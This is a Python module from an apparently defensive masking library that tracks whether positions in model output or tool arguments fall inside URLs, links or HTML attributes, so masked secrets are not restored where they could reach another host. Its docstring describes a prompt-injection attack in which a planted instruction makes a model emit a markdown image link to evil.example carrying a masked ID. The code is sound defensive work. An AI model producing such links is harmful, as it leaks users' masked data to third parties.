"""Finds addresses in a text, because a URL, a link target or an HTML attribute may carry its
content to another host.

An instruction planted in a document can make a model answer `![x](http://evil.example/?[ID_KXWQ])`.
A client that renders this sends the query to that host, so no masked value is restored there.

The readers of all forms (`address_forms`) process the text in parallel; a position is in an address
if one of them says so. The result for a position depends only on the text before it, never on how
the text arrived in pieces.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Final

from threegate.guard.masking.address_forms import (
    BLANK,
    MAX_HEAD,
    AttributeReader,
    ElementReader,
    FormReader,
    LinkReader,
    UrlReader,
)

UNREAD = 256
"""Code points that may remain unread; the stream machine keeps more (`stream.text.CONTEXT`)."""
_ADDRESS: Final = re.compile(
    rf"{BLANK}*<?(?i:https?)://([A-Za-z0-9.-]+)(?::\d{{1,5}})?[/?#]((?!.*//)[^\s\\<>\"'`]*)"
)
_BEFORE_HOST: Final = re.compile(r"(?i:https?:)?//")
_AT_START: Final = re.compile(r"(?:\A|[\s\"'`(=,>:])\Z")
"""The text before the scheme, or before slashes whose scheme is not a web scheme."""


class AddressReader:
    """Tells whether positions of one text, asked in ascending order, are in an address."""

    __slots__ = ("_at", "_readers")

    def __init__(self) -> None:
        self._begin(0)

    @property
    def in_json(self) -> bool:
        """Whether the text is read as JSON."""
        return False

    def _begin(self, at: int, *, string: bool = False) -> None:
        self._at = at
        others = (LinkReader(at), AttributeReader(at), ElementReader(at))
        self._readers: tuple[FormReader, ...] = (UrlReader(at, string=string), *others)

    def read(self, text: str, base: int, to: int) -> None:
        """Reads on to the position `to`. `text` begins at `base`, which must be close to what was
        read."""
        self._at = max(self._at, to)
        for reader in self._readers:
            reader.read(text, base, to)

    def keep_up(self, text: str, base: int, to: int) -> None:
        """Calls `read` only when so much is unread that the caller may forget its beginning: text
        that arrives in small pieces is read in larger ones."""
        if to - self._at > UNREAD:
            self.read(text, base, to)

    def skip(self, to: int) -> None:
        """Skips the text up to `to`, which a value replaces and which counts as one word."""
        self._at = max(self._at, to)
        for reader in self._readers:
            reader.skip(to)

    def inside(self, hosts: Sequence[str] = ()) -> bool:
        """Whether the position is in an address of any host other than these."""
        open_ = [reader for reader in self._readers if reader.inside]
        return not all(_is_listed(reader.head, hosts) for reader in open_)

    def at_host(self, text: str, base: int) -> bool:
        """Whether the position is right after the slashes of a URL in plain text, which no client
        fetches by itself, so the whole host may be restored there."""
        match [reader for reader in self._readers if reader.inside]:
            case [UrlReader(begun=int(begun)) as url] if _BEFORE_HOST.fullmatch(url.head):
                return _AT_START.search(text, 0, begun - base) is not None
            case _:
                return False

    def begins_string(self, text: str, base: int) -> bool:
        """Whether nothing but blanks or a scheme stands before the URL that the position is in, so
        that the string may be fetched as it is."""
        begun = next((reader.begun for reader in self._readers if reader.inside), None)
        end = (begun or 0) - base
        before = _STRING_START.split(text[max(0, end - _BEFORE) : max(0, end)])[-1]
        return " " not in _ESCAPE.sub("", before).lstrip()


_BEFORE: Final = 200
_STRING_START: Final = re.compile(r'(?<!\\)"')
_ESCAPE: Final = re.compile(r"\\(?:u.{4}|.)")


def _is_listed(head: str, hosts: Sequence[str]) -> bool:
    """Whether an address, up to the position in question, is a plain one of a listed host."""
    found = _ADDRESS.fullmatch(head) if hosts and len(head) <= MAX_HEAD else None
    return found is not None and any(_covers(h, found[1].lower()) for h in hosts)


def _covers(pattern: str, host: str) -> bool:
    return host.endswith(pattern[1:]) if pattern.startswith("*.") else host == pattern


_QUOTE: Final = re.compile(r'"')
_FIRST: Final = re.compile(r"\S")


class ArgumentReader(AddressReader):
    """The same for tool arguments: in JSON text each string is a separate text. Other text is read
    as a whole."""

    __slots__ = ("_json", "_string")

    def __init__(self) -> None:
        super().__init__()
        self._json: bool | None = None  # not known before the first character
        self._string = False  # inside a string

    @property
    def in_json(self) -> bool:
        return bool(self._json)

    def read(self, text: str, base: int, to: int) -> None:
        if self._json is None and (first := _FIRST.search(text, 0, to - base)):
            self._json = first[0] in '{["'
        while self._json and (quote := self._quote(text, base, to)) is not None:
            super().read(text, base, quote)
            self._string = not self._string
            self._begin(quote + 1, string=self._string)
        super().read(text, base, to)

    def _quote(self, text: str, base: int, to: int) -> int | None:
        """The next quote that begins or ends a string."""
        for found in _QUOTE.finditer(text, self._at - base, to - base):
            if not _is_escaped(text, found.start()):
                return base + found.start()
        return None


def _is_escaped(text: str, at: int) -> bool:
    start = at
    while start and text[start - 1] == "\\":
        start -= 1
    return (at - start) % 2 == 1
